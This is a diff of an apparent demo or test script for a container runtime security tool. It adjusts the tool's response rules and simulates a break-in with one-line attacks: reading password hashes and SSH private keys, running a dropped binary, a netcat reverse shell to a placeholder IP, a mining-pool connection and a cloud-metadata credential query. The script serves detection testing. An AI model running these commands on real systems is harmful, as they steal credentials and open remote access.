@@ -150,14 +150,13 @@ configure() {
 		outputs:
 		  - kind: stdout
 		    format: json
+		drift:
+		  mode: block
 		responses:
 		  docker: $dir/docker.sock
 		  entries:
 		    - priority: critical
 		      actions: [kill-tree]
-		      limit: 100/1m
-		    - rules: [Program run that was added to the container]
-		      actions: [evidence, kill]
 		      limit: 100/1m
 	END
 }
@@ -177,7 +176,7 @@ docker run -d --name shop --network none --cap-add SYS_ADMIN --cap-add NET_ADMIN
 say "Somebody has broken into the shop"
 attack "Reads the password hashes" 'cat /etc/shadow >/dev/null'
 attack "Looks for private keys, and takes one" 'find / -xdev -name "id_*" -path "*ssh*"; cat /root/.ssh/id_ed25519 >/dev/null'
-attack "Brings a program of his own and runs it" 'cp /bin/sh /tmp/update; /tmp/update -c "while :; do sleep 1; done"'
+attack "Brings a program of his own and runs it" '{ cat /bin/sh; echo; } >/tmp/update; chmod 755 /tmp/update; /tmp/update -c "echo it runs"'
 attack "Lets a shell call home" 'nc 203.0.113.66 4444 -e /bin/sh'
 attack "Joins a mining pool" 'nc -w 1 203.0.113.99 14444 </dev/null; /bin/echo -o stratum+tcp://pool.example.com:14444'
 attack "Asks the cloud for the node's credentials" 'wget -q -O - http://169.254.169.254/latest/meta-data/'
